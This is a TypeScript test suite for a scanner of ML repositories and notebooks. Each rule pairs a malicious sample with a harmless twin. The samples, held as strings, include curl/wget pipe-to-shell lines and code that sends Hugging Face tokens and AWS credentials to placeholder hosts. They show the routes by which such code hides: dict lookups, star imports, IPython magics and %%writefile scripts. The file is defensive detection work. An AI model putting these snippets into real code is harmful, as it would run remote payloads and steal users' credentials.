// Forms whose meaning is decided when the code runs, each judged by what it does then: a dict of callables looked
// up by a run-time key, a location variable read with its default, cloud SDK credential resolution, a star import
// of a library module, torch.hub.load, a Hub snapshot imported as a package, IPython's shell calls, `!{var}`
// lines, and %%writefile files. Every rule has a malicious case (the named finding at the named severity) and a
// legitimate twin shaped like real code that stays quiet. Sources are strings, never executed.
import type { Severity } from '../../../src/core/findings.js';
import { findingsFor, notable, summary } from './repo.js';

const nb = (...cells: string[]): string => JSON.stringify({
  nbformat: 4, nbformat_minor: 5, metadata: {},
  cells: cells.map((c) => ({ cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source: c.split('\n').map((l, i, a) => (i < a.length - 1 ? `${l}\n` : l)) }))
}, null, 1);
const md = (lang: string, code: string): string => `# model\n\n## Usage\n\n\`\`\`${lang}\n${code}\n\`\`\`\n`;
const CURL = 'curl -fsSL https://dl.x.invalid/i.sh | sh';

type Case = [name: string, files: Record<string, string>, expect: [check: string, severity: Severity] | 'quiet'];

const PAIRS: [rule: string, caught: Case, twin: Case][] = [
  ['a dict looked up by a key known only at run time can return any of its values',
    ['dict of callables', { 'setup.py': `import os\nrunners = {"posix": os.system}\nrunners.get(os.name, print)("${CURL}")\n` }, ['code.download-exec', 'critical']],
    ['dict of formatters', { 'export.py': 'import json, sys\nFORMATS = {"json": json.dumps, "repr": repr}\nHANDLERS = {"train": print, "eval": len}\n\n\ndef render(obj, fmt):\n    return FORMATS.get(fmt, str)(obj)\n\n\nprint(render({"f1": 0.91}, sys.argv[1]))\nHANDLERS[sys.argv[2]]("done")\n' }, 'quiet']],
  ['a subscript by a run-time key too',
    ['dict subscript', { 'run.py': `import os, sys\nACTIONS = {"go": os.system, "show": print}\nACTIONS[sys.argv[1]]("${CURL}")\n` }, ['code.download-exec', 'critical']],
    ['dict of model classes', { 'load.py': 'import sys\nfrom transformers import AutoModelForTokenClassification, AutoModelForSequenceClassification\nHEADS = {"ner": AutoModelForTokenClassification, "cls": AutoModelForSequenceClassification}\nmodel = HEADS[sys.argv[1]].from_pretrained("dslim/bert-base-NER")\n' }, 'quiet']],
  ['a location variable read with a default is the default path: $HF_HOME/token is the Hub token',
    ['HF_HOME default', { 'prepare.py': 'import os\nimport requests\nhf_home = os.environ.get("HF_HOME", os.path.expanduser("~/.cache/huggingface"))\nwith open(os.path.join(hf_home, "token")) as f:\n    requests.get("https://t.x.invalid/c", params={"k": f.read().strip()}, timeout=5)\n' }, ['code.credentials', 'critical']],
    ['HF_HOME cache listing', { 'cache.py': 'import os\ncache = os.environ.get("HF_HOME", os.path.expanduser("~/.cache/huggingface"))\nhub = os.path.join(cache, "hub")\nprint(sorted(os.listdir(hub)) if os.path.isdir(hub) else [])\nout = os.getenv("OUTPUT_DIR", "./outputs")\nos.makedirs(out, exist_ok=True)\n' }, 'quiet']],
  ['HF_HOME without a default is ~/.cache/huggingface',
    ['HF_HOME subscript', { 'prepare.py': 'import os\nimport requests\ntok = open(os.path.join(os.environ["HF_HOME"], "token")).read()\nrequests.get("https://t.x.invalid/c?t=" + tok)\n' }, ['code.network-send', 'critical']],
    ['HF_HOME datasets cache', { 'data.py': 'import os\nfrom datasets import load_dataset\nds = load_dataset("conll2003", cache_dir=os.path.join(os.environ.get("HF_HOME", "/data/hf"), "datasets"))\nprint(ds)\n' }, 'quiet']],
  ['cloud SDK credential resolution is a credential read',
    ['boto3 credentials in a GET', { 'prepare.py': 'import boto3\nimport requests\ncreds = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.get("https://t.x.invalid/a", params={"a": creds.access_key, "s": creds.secret_key}, timeout=5)\n' }, ['code.network-send', 'critical']],
    ['boto3 download from S3', { 'fetch.py': 'import boto3\nsession = boto3.Session(profile_name="ml")\ns3 = session.client("s3")\ns3.download_file("my-bucket", "models/ner.safetensors", "ner.safetensors")\nprint(session.region_name)\n' }, 'quiet']],
  ['`from module import *` binds the module\'s public names',
    ['star import of subprocess', { 'setup_runtime.py': `from subprocess import *\n\n\ndef main():\n    getoutput("${CURL}")\n\n\nmain()\n` }, ['code.download-exec', 'critical']],
    ['star import of math', { 'geometry.py': 'from math import *\nfrom typing import *\n\n\ndef area(r: float) -> Optional[float]:\n    return pi * r ** 2 if r > 0 else None\n\n\nprint(area(2.0), sqrt(16))\n' }, 'quiet']],
  ['torch.hub.load with trust_repo=True of an unknown, unpinned GitHub repository runs unreviewed code',
    ['torch.hub trust_repo', { 'README.md': md('python', 'import torch\n\ncrf = torch.hub.load("hubconf-ml/arabic-crf", "crf_head", trust_repo=True)') }, ['code.remote-import', 'high']],
    ['torch.hub pytorch/vision pinned', { 'README.md': md('python', 'import torch\n\nmodel = torch.hub.load("pytorch/vision:v0.10.0", "resnet18", pretrained=True)\nmodel.eval()') }, 'quiet']],
  ['a Hub snapshot of another repository imported as a package runs its code',
    ['snapshot imported', { 'README.md': md('python', 'from huggingface_hub import snapshot_download\n\nsnapshot_download("someone/notam-tools", local_dir="notam_tools")\nimport notam_tools.normalize as norm\n\nprint(norm.clean("RWY 09/27 CLSD"))') }, ['code.remote-import', 'high']],
    ['snapshot loaded as weights', { 'README.md': md('python', 'from huggingface_hub import snapshot_download\nfrom transformers import AutoModelForTokenClassification, AutoTokenizer\n\nlocal = snapshot_download("dslim/bert-base-NER", local_dir="bert-ner")\nmodel = AutoModelForTokenClassification.from_pretrained("bert-ner")\ntok = AutoTokenizer.from_pretrained(local)\nimport numpy as np') }, 'quiet']],
  ['a Hub snapshot put on sys.path',
    ['snapshot on sys.path', { 'run.py': 'import sys\nfrom huggingface_hub import snapshot_download\npath = snapshot_download(repo_id="someone/tools")\nsys.path.insert(0, path)\nfrom tools import clean\nprint(clean("x"))\n' }, ['code.remote-import', 'high']],
    ['local src on sys.path', { 'run.py': 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "src"))\nfrom huggingface_hub import snapshot_download\nweights = snapshot_download(repo_id="dslim/bert-base-NER")\nprint(weights)\n' }, 'quiet']],
  ['get_ipython().system(…) is a notebook shell line',
    ['get_ipython system', { 'quickstart.ipynb': nb('# Quickstart', `get_ipython().system('pip install -q transformers')\nget_ipython().system('${CURL}')`) }, ['code.download-exec', 'critical']],
    ['get_ipython pip and ls', { 'quickstart.ipynb': nb('import sys', "get_ipython().system('pip install -q transformers datasets')\nget_ipython().run_line_magic('pip', 'install -q seqeval')\nfiles = get_ipython().getoutput('ls data')\nget_ipython().run_cell_magic('bash', '', 'echo hello\\nls -la\\n')") }, 'quiet']],
  ['run_line_magic("sx", …) and run_cell_magic("bash", …) too',
    ['IPython magics', { 'demo.ipynb': nb('from IPython import get_ipython\nip = get_ipython()\nip.run_cell_magic("bash", "", "curl -s https://x.invalid/i | bash\\n")') }, ['code.download-exec', 'critical']],
    ['IPython timeit magic', { 'demo.ipynb': nb('from IPython import get_ipython\nip = get_ipython()\nip.run_line_magic("timeit", "sum(range(100))")\nip.run_line_magic("matplotlib", "inline")') }, 'quiet']],
  ['`!{var}` runs the Python value as a shell command',
    ['bang var', { 'quickstart.ipynb': nb(`SETUP = "${CURL}"\n!{SETUP}`) }, ['code.download-exec', 'critical']],
    ['bang interpolation', { 'quickstart.ipynb': nb('import sys\n!{sys.executable} -m pip install -q transformers datasets', 'MODEL = "dslim/bert-base-NER"\nDATA_DIR = "data"\n!mkdir -p {DATA_DIR}\n!ls $DATA_DIR $HOME\nfiles = !ls {DATA_DIR}\nprint(files)', '!echo {{literal}} ${HOME}') }, 'quiet']],
  ['a %%writefile file is a script of the repository',
    ['writefile then bash', { 'lab.ipynb': nb(`%%writefile setup_env.sh\n#!/bin/sh\n${CURL}`, '!bash setup_env.sh') }, ['notebook.pipe-to-shell', 'critical']],
    ['writefile train script', { 'lab.ipynb': nb('%%writefile config.yaml\nmodel: dslim/bert-base-NER\nlr: 3e-5', '%%writefile train.py\nimport sys\nfrom transformers import AutoModel\nm = AutoModel.from_pretrained(sys.argv[1])\nprint(m)', '!python train.py dslim/bert-base-NER', '%%writefile run.sh\n#!/bin/bash\nset -e\npython train.py dslim/bert-base-NER\n') }, 'quiet']],
  ['a %%writefile Python file is analysed as Python',
    ['writefile python', { 'lab.ipynb': nb('%%writefile helper.py\nimport os\nos.system("wget -qO- https://x.invalid/a | sh")', '!python helper.py') }, ['code.download-exec', 'critical']],
    ['writefile requirements', { 'lab.ipynb': nb('%%writefile requirements.txt\ntransformers==4.44.0\nseqeval==1.2.2', '!pip install -r requirements.txt') }, 'quiet']]
];

describe.each(PAIRS)('%s', (_rule, caught, twin) => {
  test.each([caught, twin])('%s', (_name, files, expected) => {
    const found = findingsFor(files);
    if (expected === 'quiet') {
      expect(summary(notable(found).filter((f) => !f.check.startsWith('file.')))).toBe('');
      return;
    }
    const [check, severity] = expected;
    const match = found.find((f) => f.check === check && f.severity === severity);
    if (!match) throw new Error(`expected ${severity} ${check}; got:\n${summary(found)}`);
    expect(match.file).toBeDefined();
    expect(match.help).toBeTruthy();
    expect(match.evidence).toBeTruthy();
  });
});

describe('the severities a reviewer would give', () => {
  test('torch.hub.load: a note for a pinned release of a listed publisher, medium otherwise, high with trust_repo=True on an unknown owner', () => {
    const sev = (code: string): string => findingsFor({ 'README.md': md('python', `import torch\n\n${code}`) })
      .filter((f) => f.check === 'code.remote-import').map((f) => f.severity).join(',');
    expect(sev('m = torch.hub.load("pytorch/vision:v0.10.0", "resnet18", pretrained=True)')).toBe('low');
    expect(sev('m = torch.hub.load("pytorch/vision", "resnet18", pretrained=True)')).toBe('medium');
    expect(sev('m = torch.hub.load("pytorch/vision:main", "resnet18")')).toBe('medium');
    expect(sev('m = torch.hub.load(repo_or_dir="snakers4/silero-vad", model="silero_vad", trust_repo=True)')).toBe('medium');
    expect(sev('m = torch.hub.load("someone/tools", "x")')).toBe('medium');
    expect(sev('m = torch.hub.load("someone/tools", "x", trust_repo=True)')).toBe('high');
    expect(sev(`m = torch.hub.load("someone/tools:${'a'.repeat(40)}", "x", trust_repo=True)`)).toBe('medium');
    expect(sev('m = torch.hub.load("someone/tools", "x", trust_repo=False)')).toBe('medium');
  });

  test('the interpreter itself (sys.executable) is not a program computed at run time', () => {
    const fs = notable(findingsFor({ 'install.py': 'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "seqeval"], check=True)\n' }));
    expect(fs.map((f) => `${f.severity} ${f.check}`)).toEqual(['medium code.process-spawn']);
    expect(fs[0]?.message).toContain('python3 -m pip install seqeval');
  });
});
